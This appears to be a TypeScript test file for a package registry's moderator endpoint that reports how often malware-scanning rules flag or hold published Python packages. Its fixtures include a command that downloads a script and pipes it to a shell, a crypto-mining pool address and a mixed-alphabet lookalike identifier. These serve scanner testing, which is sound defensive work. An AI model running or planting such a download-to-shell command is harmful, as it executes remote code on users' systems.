import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { RULES, RULESET_VERSION } from '@patchbay/inspect/facts';
import { assertRefused } from '../../support/assert-refused.ts';
import { makePublisher, publishFiles } from '../../support/build.ts';
import type { Ending } from '../../support/ending.ts';
import { readMetrics } from '../../support/read-metrics.ts';
import { startServer } from '../../support/start-server.ts';
import { suite } from '../../support/variants.ts';

const path = '/admin/check-rules';

const command = 'import os\nos.system("ls")\n';
const downloadToShell = 'import os\nos.system("curl -s https://host.invalid/a.sh | sh")\n';
const miner = 'POOL = "stratum+tcp://pool.invalid:3333"\n';
const mixedAlphabets = 'wаllet = 1\n';

const openRegistry = async (ending: Ending) => {
  const server = await startServer(ending);
  const ada = await makePublisher(server, 'ada');
  const moderator = await server.moderator();
  const ruleOf = async (id: string) => (await moderator.get(path)).json.rules.find(({ rule }) => rule === id);
  return {
    server,
    ada,
    moderator,
    ruleOf,
    publish: (nodeId: string, text: string) =>
      publishFiles(server, ada, nodeId, '1.0.0', { '__init__.py': text }),
    counts: async (id: string) => {
      const { versions, held, latest } = await ruleOf(id);
      return [versions, held, latest];
    },
  };
};

suite('list-check-rules', async () => {
  const { server, ada, moderator, ruleOf, publish, counts } = await openRegistry({ after });

  test('200: every rule of the ruleset, also those that found nothing', async () => {
    const { json } = await moderator.get(path);
    assert.equal(json.ruleset_version, RULESET_VERSION);
    assert.deepEqual(
      json.rules.map(({ rule }) => rule),
      Object.keys(RULES),
    );
    assert.deepEqual(await counts('login-added'), [0, 0, undefined]);
  });

  test('200: in how many versions a rule found something, what it alone held, and the latest', async (t) => {
    const own = await openRegistry(t);
    await own.publish('Warned', command);
    assert.deepEqual(await own.counts('command-at-import'), [1, 0, { node_id: 'Warned', version: '1.0.0' }]);
    await own.publish('Held', downloadToShell);
    await own.publish('Held-Twice', downloadToShell + miner);
    const latest = { node_id: 'Held-Twice', version: '1.0.0' };
    assert.deepEqual(await own.counts('download-to-shell'), [2, 1, latest]);
    assert.deepEqual((await own.counts('mining-pool')).slice(0, 2), [1, 0]);
  });

  test('200: a shadow rule is counted and holds nothing', async () => {
    await publish('Shadowed', mixedAlphabets);
    assert.equal(
      (await server.anonymous.get('/nodes/shadowed/versions/1.0.0')).json.status,
      'NodeVersionStatusActive',
    );
    const { shadow, versions, latest } = await ruleOf('mixed-alphabets');
    assert.deepEqual([shadow, versions, latest.node_id], [true, 1, 'Shadowed']);
  });

  test('200: a version that is checked again counts once', async () => {
    await publish('Again', downloadToShell);
    const before = await counts('download-to-shell');
    assert.equal((await moderator.post('/nodes/again/versions/1.0.0/check')).status, 200);
    await server.settle();
    assert.deepEqual(await counts('download-to-shell'), before);
  });

  test('200: the same figures are metrics, by rule', async (t) => {
    const server = await startServer(t);
    const bob = await makePublisher(server, 'bob');
    await publishFiles(server, bob, 'Measured', '1.0.0', { '__init__.py': downloadToShell + mixedAlphabets });
    const metrics = await readMetrics(server);
    const sample = (name: string, rule: string, shadow: string) =>
      metrics.get(`patchbay_check_rule_${name}_versions{rule="${rule}",shadow="${shadow}"}`);
    assert.equal(sample('found', 'download-to-shell', 'no'), 1);
    assert.equal(sample('held', 'download-to-shell', 'no'), 1);
    assert.equal(sample('found', 'mixed-alphabets', 'yes'), 1);
    assert.equal(sample('held', 'mixed-alphabets', 'yes'), 0);
  });

  test('401 and 403: anyone but a moderator', async () => {
    assertRefused(await server.anonymous.get(path), 'unauthenticated');
    assertRefused(await ada.owner.get(path), 'forbidden');
  });
});
